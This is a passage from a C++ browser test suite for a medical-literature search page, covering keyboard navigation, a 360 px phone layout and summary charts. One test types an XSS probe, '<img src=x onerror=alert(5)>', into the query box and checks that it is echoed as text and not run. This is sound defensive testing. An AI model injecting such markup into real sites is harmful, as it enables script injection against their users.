        CHECK_THAT(text_of(page, "#summary-content .study blockquote"), Catch::Contains("</blockquote><h1>forged</h1>"));
    }
    {
        INFO("a bad query holding markup is echoed in the error as text (a provoked 400)");
        page.click("#tab-results");
        page.wait_for("!document.getElementById('results-section').hidden", "the results tab");
        const std::string query = "<img src=x onerror=alert(5)> (naltrexone";
        page.evaluate("document.getElementById('query').value = ''");
        page.type_into("#query", query);
        page.press_key("Enter");
        page.wait_for("!document.getElementById('query-error').hidden", "the query error");
        CHECK(page.evaluate(injected) == json::array());
        CHECK(text_of(page, "#query-error .query-echo") == query);
        CHECK(text_of(page, "#query-error mark") == "(");
        CHECK_THAT(text_of(page, "#query-error .query-error-message"), Catch::Contains("<img src=x onerror=alert(5)>"));
    }
    std::string all;
    for (const std::string& line : page.errors()) all += line + "\n";
    CHECK_THAT(all, !Catch::Contains("Content Security Policy"));
    CHECK(unexpected_errors(page, {{400, "/api/search?q=%3Cimg"}}) == no_errors);
}

TEST_CASE("serve page: keyboard only, search and open a record", "[serve-page]") {
    LDN_REQUIRE_CHROMIUM();
    ServeProcess& server = corpus_server();
    ChromiumPage page;
    open_page(page, server);
    wait_for_first_page(page, all_corpus_first_page());

    // Tab from the start of the page to the query box: the skip link comes first.
    int tabs = 0;
    while (page.evaluate("document.activeElement.id") != "query" && tabs < 10) {
        page.press_key("Tab");
        ++tabs;
    }
    REQUIRE(page.evaluate("document.activeElement.id") == "query");
    CHECK(tabs == 2);
    for (const char c : std::string("naltrexone")) page.press_key(std::string(1, c));
    CHECK(page.evaluate("document.getElementById('query').value") == "naltrexone");
    page.press_key("Enter");
    const json expected = expected_shown(api_search(server, {{"q", "naltrexone"}}));
    CHECK(wait_until(page, shown_results, expected, "the results for naltrexone") == expected);

    // On through the form, the filters, tabs, tools and facets to the first result's title.
    tabs = 0;
    while (page.evaluate("document.activeElement.matches('.result-title-link')") != true && tabs < 200) {
        page.press_key("Tab");
        ++tabs;
    }
    REQUIRE(page.evaluate("document.activeElement.matches('.result-title-link')") == true);
    const std::string first_pmid = expected.at("pmids").at(0).get<std::string>();
    CHECK(page.evaluate("document.activeElement.closest('li.result').dataset.pmid") == first_pmid);

    page.press_key("Enter");
    page.wait_for("!document.getElementById('record-view').hidden && document.activeElement.id === 'record-title'",
                  "the record opened by Enter, its title focused");
    const json article = api_json(server, "/api/article/" + first_pmid);
    CHECK(text_of(page, "#record-title") == article.at("title").get<std::string>());

    page.press_key("Escape");
    page.wait_for("document.getElementById('record-view').hidden && "
                  "document.activeElement.matches('li.result[data-pmid=\"" + first_pmid + "\"] .result-title-link')",
                  "the results again, the focus on the title");
    CHECK(page.evaluate(shown_results) == expected);
    CHECK(unexpected_errors(page) == no_errors);
}

TEST_CASE("serve page: on a 360 px phone nothing is wider than the screen", "[serve-page]") {
    LDN_REQUIRE_CHROMIUM();
    ServeProcess& server = corpus_server();
    ChromiumPage page;
    page.set_viewport(360, 740, true);
    open_page(page, server);
    wait_for_first_page(page, all_corpus_first_page());
    CHECK(page.evaluate("window.innerWidth") == 360);

    const std::string width = "document.documentElement.scrollWidth";
    page.type_into("#query", "naltrexone");
    page.press_key("Enter");
    const json expected = expected_shown(api_search(server, {{"q", "naltrexone"}}));
    CHECK(wait_until(page, shown_results, expected, "the results for naltrexone") == expected);
    CHECK(page.evaluate(width).get<int>() <= 360);
    CHECK(page.evaluate("Math.max(...Array.from(document.querySelectorAll('#results li.result, #facets, .filters'), "
                        "(e) => e.getBoundingClientRect().right))")
              .get<double>() <= 360.0);
    // Every abstract open: the longest text on the page.
    page.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true; })");
    CHECK(page.evaluate(width).get<int>() <= 360);

    page.click("li.result[data-pmid=\"90000001\"] a.result-title-link");
    page.wait_for("!document.getElementById('record-view').hidden && "
                  "document.querySelector('#record-content article.record') !== null",
                  "the record view");
    page.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true; })");
    CHECK(page.evaluate(width).get<int>() <= 360);

    page.press_key("Escape");
    page.wait_for("!document.getElementById('results-section').hidden", "the results again");
    page.click("#tab-summary");
    page.wait_for("document.querySelectorAll('#summary-content svg.chart').length >= 3", "the summary's charts");
    page.evaluate("document.querySelectorAll('details').forEach((d) => { d.open = true; })");
    CHECK(page.evaluate(width).get<int>() <= 360);
    CHECK(unexpected_errors(page) == no_errors);
}

TEST_CASE("serve page: the summary tab draws its charts with the API's figures", "[serve-page]") {
    LDN_REQUIRE_CHROMIUM();
    ServeProcess& server = corpus_server();
    ChromiumPage page;
    open_page(page, server);
    wait_for_first_page(page, all_corpus_first_page());

    // The figures of the page's summary: the scope line, and each chart's bars as [label or fill, value].
    const std::string figures = R"(({
      bars: Object.fromEntries(Array.from(document.querySelectorAll('#summary-content svg.chart'), (chart) =>
        [chart.dataset.chart, Array.from(chart.querySelectorAll('g.bar-row'), (g) =>
          [g.querySelector('rect').getAttribute('fill') || g.querySelector('.bar-label').textContent,
           Number(g.querySelector('.bar-value').textContent)])])),
      charts: Array.from(document.querySelectorAll('#summary-content svg.chart'), (c) => c.dataset.chart),
      scope: document.querySelector('#summary-content .summary-part[data-part="scope"] p').textContent,
    }))";

    // What the page must show for /api/summary's answer (keys kept in the server's order).
    auto check_summary = [&](const nlohmann::ordered_json& summary) {
        const auto& scope = summary.at("scope");
        const int included = scope.at("included").get<int>();
        const int identified = scope.at("identified").get<int>();
        const std::string ready = "Evidence summary ready: " + std::to_string(included) +
                                  (included == 1 ? " record" : " records") + " included.";
        const std::string scope_line = std::to_string(identified) + (identified == 1 ? " record" : " records") +
                                       " identified, " + std::to_string(included) + " included, published from " +
                                       scope.at("since").get<std::string>() + " to " +
                                       scope.at("until").get<std::string>() + ".";
        // Both, so that a summary still showing from before (the same count included) does not pass.
        const json expected_state = json::array({ready, true});
        CHECK(wait_until(page,
                         "[document.getElementById('status').textContent, "
                         "(document.querySelector('#summary-content .summary-part[data-part=\"scope\"] p') || "
                         "{textContent: ''}).textContent.startsWith(" + js(scope_line) + ")]",
                         expected_state, "the summary of " + scope.at("query").get<std::string>()) == expected_state);
        const json shown = page.evaluate(figures);
        INFO(shown.dump(1));
        CHECK(shown.at("charts") == json::array({"timeline", "designs", "conditions", "doses"}));
        CHECK(shown.at("scope").get<std::string>().starts_with(scope_line));

        // Designs: the timeline's counts summed over the years, one bar per design (told by its fill).
        std::map<std::string, int> per_design;
        for (const auto& [year, counts] : summary.at("timeline").items())
            for (const auto& [design, n] : counts.items()) per_design[design] += n.get<int>();
        std::map<std::string, int> design_bars;
        for (const json& bar : shown.at("bars").at("designs")) {
            std::string fill = bar.at(0).get<std::string>();
            REQUIRE(fill.starts_with("url(#pattern-"));
            design_bars[fill.substr(13, fill.size() - 14)] = bar.at(1).get<int>();
        }
        CHECK(design_bars == per_design);
        int design_sum = 0;
        for (const auto& [design, n] : per_design) design_sum += n;
        CHECK(design_sum == included);

        // Conditions: the evidence map's rows summed, in the server's order.
        std::vector<int> per_condition;
        for (const auto& [condition, counts] : summary.at("evidence_map").items()) {
            int n = 0;
            for (const auto& [design, count] : counts.items()) n += count.get<int>();
            per_condition.push_back(n);
        }
        std::vector<int> condition_bars;
        for (const json& bar : shown.at("bars").at("conditions")) condition_bars.push_back(bar.at(1).get<int>());
        CHECK(condition_bars == per_condition);

        // Doses: one bar per dose, its records.
        std::vector<int> per_dose;
        for (const auto& entry : summary.at("doses").at("studies_per_dose")) per_dose.push_back(entry.at("studies").get<int>());
        std::vector<int> dose_bars;
        for (const json& bar : shown.at("bars").at("doses")) dose_bars.push_back(bar.at(1).get<int>());
        CHECK(dose_bars == per_dose);
        CHECK_THAT(text_of(page, "#summary-content .summary-part[data-part=\"doses\"] p"),
                   Catch::StartsWith(std::to_string(summary.at("doses").at("studies_with_dose").get<int>()) + " records report"));
        CHECK(page.evaluate("document.querySelectorAll('#summary-content svg.chart rect.bar, #summary-content svg.chart "
                            "rect').length > 0") == true);
    };

    page.click("#tab-summary");
    const auto everything = nlohmann::ordered_json::parse(api_text(server, "/api/summary"));
    CHECK(everything.at("scope").at("identified") == 30);  // README: 30 records
    check_summary(everything);
    CHECK(page.evaluate("location.hash") == "#view=summary");
    CHECK(page.evaluate("document.getElementById('tab-summary').getAttribute('aria-selected')") == "true");
    CHECK(is_hidden(page, "results-section"));

    {
        INFO("a search from the summary tab summarises its answer");
        page.type_into("#query", "naltrexone");
        page.press_key("Enter");
        const auto narrowed = nlohmann::ordered_json::parse(api_text(server, "/api/summary?q=naltrexone"));
        CHECK(narrowed.at("scope").at("identified") == 28);
        check_summary(narrowed);
        CHECK(page.evaluate("location.hash") == "#q=naltrexone&view=summary");
    }
    {
        INFO("a key study opens its record; Escape returns to the summary");
        const std::string link = "#summary-content .summary-part[data-part=\"key-studies\"] .study-head a";
        const json href = page.evaluate("document.querySelector(" + js(link) + ").getAttribute('href')");
        REQUIRE(href.is_string());
        const std::string pmid = href.get<std::string>().substr(href.get<std::string>().rfind('=') + 1);
        CHECK(href == "#q=naltrexone&view=summary&record=" + pmid);
        page.click(link);
        page.wait_for("!document.getElementById('record-view').hidden && "
                      "document.getElementById('status').textContent === " + js("Showing PMID " + pmid + "."),
                      "the key study's record");
        CHECK(text_of(page, "#record-title") == api_json(server, "/api/article/" + pmid).at("title").get<std::string>());
        page.press_key("Escape");
        page.wait_for("!document.getElementById('summary-section').hidden && location.hash === '#q=naltrexone&view=summary'",
                      "the summary again");
        CHECK(page.evaluate("document.querySelectorAll('#summary-content svg.chart').length") == 4);
    }
    {
        INFO("the Results tab, reached with the arrow key, returns to the list");
        page.evaluate("document.getElementById('tab-summary').focus()");
        page.press_key("ArrowLeft");
        const json expected = expected_shown(api_search(server, {{"q", "naltrexone"}}));
        CHECK(wait_until(page, shown_results, expected, "the results for naltrexone") == expected);
        CHECK(is_hidden(page, "summary-section"));
        CHECK(active_element(page) == "button#tab-results");
        CHECK(page.evaluate("document.getElementById('tab-results').getAttribute('aria-selected')") == "true");
    }
    CHECK(unexpected_errors(page) == no_errors);
}
